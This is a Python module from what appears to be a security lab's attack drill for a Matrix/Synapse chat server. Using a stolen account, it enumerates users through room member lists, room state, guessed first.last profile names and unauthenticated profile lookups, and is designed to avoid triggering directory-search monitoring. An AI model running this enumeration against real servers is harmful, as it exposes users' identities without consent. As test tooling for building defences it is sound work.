"""Who is there, learnt without one search of the directory: member lists, room states, profiles.

A defence that watches the search box sees nothing of this.
"""

from collections.abc import Mapping
from itertools import islice, product
from typing import Any, Final

from vigie.lab.client import V3, Answer, Client, Source, part
from vigie.lab.drills import Context
from vigie.lab.hands import rob, steal
from vigie.lab.intruder import BROWSER, NETWORKS, crew
from vigie.lab.loot import Taken
from vigie.model.language import Sentence

GUESSES: Final = 2_000
"""Names tried: every given name met with every family name met, first.last as on most platforms."""
UNSIGNED: Final = 50
"""Profiles tried without a token: of people known, then of guesses."""


class Members:
    """See the module."""

    name: Final = "members"
    title: Final = Sentence(
        en="A stolen account lists people by the members of rooms and by profiles, without one search",
        fr="Un compte volé liste les agents par les membres des salons et par les profils, sans une recherche",
    )
    benign: Final = False
    profile: Final = "victim"
    stages: Final = ("lists", "state", "profiles", "without_token")
    seconds: Final = 180.0

    async def run(self, context: Context) -> Taken:
        """Play it: see `Drill.run`."""
        walk = _Walk(context)
        farewell = walk.try_without_token if "without_token" in context.stages else None
        return await rob(context, walk.hands, walk.play(), farewell)


class _Walk:
    def __init__(self, context: Context) -> None:
        self._context = context
        self._server = context.account.user_id.partition(":")[2]
        self.hands = steal(context)

    async def play(self) -> None:
        await self.hands.intruder.enter()
        await crew(self._context.concurrency, await self.hands.rooms(), self._list)
        if "profiles" in self._context.stages:
            await crew(self._context.concurrency, self._guesses(), self._look_at)

    async def _list(self, row: Mapping[str, Any]) -> None:
        """Rooms open to the world tell their members to anybody; the others once they are entered."""
        room = str(row["room_id"])
        if row.get("world_readable") is not True and not await self.hands.enter(room):
            return
        if "lists" in self._context.stages and await self.hands.members(room):
            return
        if "state" in self._context.stages:
            await self._read_state(room)

    async def _read_state(self, room: str) -> None:
        """Other ways to the same, when the list is refused: who joined, and the whole state."""
        base = f"{V3}/rooms/{part(room)}"
        answer = await self.hands.get("joined_members", f"{base}/joined_members")
        joined = answer.body.get("joined") if answer else None
        self._context.loot.take_people(joined if isinstance(joined, dict) else ())
        if answer is None:
            state = await self.hands.get("state", f"{base}/initialSync", limit="1")
            self.hands.keep_members(state.rows("state") if state else ())

    def _guesses(self) -> list[str]:
        """Localparts, shuffled: people walk no alphabet."""
        names = guesses(self._context.loot.people, self._context.account.user)
        self._context.rng.shuffle(names)
        return names

    async def _look_at(self, name: str) -> None:
        user = f"@{name}:{self._server}"
        answer = await self.hands.get("profiles", f"{V3}/profile/{part(user)}")
        self._keep(user, answer)

    def _keep(self, user: str, answer: Answer | None) -> None:
        if answer and answer.ok:
            self._context.loot.done["profiles"] += 1
            self._context.loot.take_people([user])

    async def try_without_token(self) -> None:
        """Profiles ask for no token unless Synapse is told to."""
        client = Client(self._context.http, self._context.base_url, Source(NETWORKS[-1], BROWSER))
        guessed = [f"@{name}:{self._server}" for name in self._guesses()]
        for user in [*sorted(self._context.loot.people)[: UNSIGNED // 2], *guessed][:UNSIGNED]:
            answer = await client.call("GET", f"{V3}/profile/{part(user)}", signed=False)
            self._context.loot.requests += 1
            self._context.loot.done["profiles_without_token"] += answer.ok
            self._keep(user, answer)


def guesses(people: set[str], own: str) -> list[str]:
    """Names nobody has told, made of those that were: at most `GUESSES`, none of them known, in a stable order."""
    known = {user[1:].partition(":")[0] for user in people} | {own}
    pairs = [name.partition(".") for name in sorted(known) if "." in name]
    firsts = dict.fromkeys(first for first, _, _ in pairs)
    lasts = dict.fromkeys(last for _, _, last in pairs)
    made = (f"{first}.{last}" for first, last in product(firsts, lasts))
    return list(islice((name for name in made if name not in known), GUESSES))


DRILL: Final = Members()
